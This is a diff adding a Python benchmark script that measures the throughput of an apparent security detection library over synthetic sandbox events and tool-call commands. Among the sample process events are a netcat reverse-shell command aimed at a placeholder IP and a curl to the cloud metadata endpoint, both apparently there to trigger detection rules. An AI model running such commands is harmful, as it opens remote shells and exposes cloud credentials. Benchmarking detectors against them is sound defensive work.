@@ -1,0 +1,113 @@
+#!/usr/bin/env python3
+"""Detection throughput on one core: events/s through the full built-in pack, tool calls/s through scan.
+
+    .venv/bin/python benchmarks/bench_detect.py [--rounds 5]
+
+Prints medians over rounds and ratios against baselines measured in the same run:
+``flat()`` alone (the unavoidable cost of turning an Event into a record) for events,
+and the shell analyser alone for tool calls. Targets: 50,000 events/s, 5,000 calls/s.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import statistics
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+from corral.cli._scan import scan_lines
+from corral.detect import Detector, analyze
+from corral.events import DnsQuery, Event, NetworkConnection, ProcessStart, ResourceSample, TraceContext
+
+ROOT = Path(__file__).resolve().parent.parent
+
+
+def _events(n: int, unique: bool = False) -> list[Event]:
+    ctx = TraceContext(run_id="r1", step=10, episode_id="e1", turn=2, tool_call_id="tc1")
+    cmds = [
+        ["python3", "-m", "pytest", "-q", "tests/"],
+        ["git", "status", "--short"],
+        ["/usr/bin/gcc", "-O2", "-o", "main", "main.c"],
+        ["pip", "install", "-r", "requirements.txt"],
+        ["ls", "-la", "/workspace"],
+        ["bash", "-c", "make -j4 && ./run_tests.sh"],
+        ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"],
+        ["curl", "-s", "http://169.254.169.254/latest/meta-data/"],
+        ["python3", "-c", "import os; print(os.getcwd())"],
+        ["sed", "-i", "s/a/b/", "src/x.py"],
+    ]
+    out: list[Event] = []
+    for i in range(n):
+        k = i % 20
+        if k < 10:
+            argv = [*cmds[k][:-1], cmds[k][-1] + (f" #{i}" if unique else "")]
+            data: object = ProcessStart(
+                ProcessId=1000 + i,
+                Image="/usr/bin/" + argv[0].rsplit("/", 1)[-1],
+                CommandLine=" ".join(argv),
+                argv=argv,
+            )
+        elif k < 15:
+            data = NetworkConnection(
+                Protocol="tcp",
+                DestinationIp=f"10.0.{i % 250}.{k}",
+                DestinationPort=443 + k,
+                decision="denied",
+            )
+        elif k < 18:
+            data = DnsQuery(QueryName=f"h{i % 97}.pypi.org", decision="allowed")
+        else:
+            data = ResourceSample(cpu_time_s=0.1, memory_bytes=10_000_000, pids=3)
+        out.append(Event(time_ns=1_000_000_000 * i // 100, sandbox_id=f"sb{i % 64}", ctx=ctx, data=data))  # type: ignore[arg-type]
+    return out
+
+
+def _rate(fn: Callable[[], int], rounds: int) -> float:
+    rates = []
+    for _ in range(rounds):
+        t = time.perf_counter()
+        n = fn()
+        rates.append(n / (time.perf_counter() - t))
+    return statistics.median(rates)
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--rounds", type=int, default=5)
+    args = ap.parse_args()
+    if hasattr(os, "sched_setaffinity"):
+        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # one core
+    det = Detector.builtin()
+    print(f"rules: {len(det.rules)} loaded, {len(det.load_report.problems)} not loaded")
+
+    events = _events(20_000)
+    flat_rate = _rate(lambda: sum(1 for e in events if e.flat()), args.rounds)
+    obs_rate = _rate(lambda: sum(1 for e in events if det.observe(e) is not None), args.rounds)
+    print(
+        f"events: observe {obs_rate:,.0f}/s (target 50,000)  flat() alone {flat_rate:,.0f}/s  "
+        f"ratio observe/flat {obs_rate / flat_rate:.2f}"
+    )
+    fresh = _events(20_000, unique=True)  # every inline-code payload distinct: no cache hits
+    uniq_rate = _rate(lambda: sum(1 for e in fresh if det.observe(e) is not None), args.rounds)
+    print(
+        f"events, all payloads distinct: observe {uniq_rate:,.0f}/s  "
+        f"ratio to repeated {uniq_rate / obs_rate:.2f}"
+    )
+
+    calls = [
+        json.loads(x)["command"] for x in (ROOT / "tests/data/detect/eval.jsonl").read_text().splitlines()
+    ]
+    lines = [json.dumps({"id": i, "command": c}) for i, c in enumerate(calls * 5)]
+    analyze_rate = _rate(lambda: sum(1 for c in calls * 5 if analyze(c)), args.rounds)
+    scan_rate = _rate(lambda: sum(1 for _ in scan_lines(det, lines)), args.rounds)
+    print(
+        f"tool calls: scan {scan_rate:,.0f}/s (target 5,000)  analyser alone {analyze_rate:,.0f}/s  "
+        f"ratio scan/analyse {scan_rate / analyze_rate:.2f}"
+    )
+
+
+if __name__ == "__main__":
+    main()
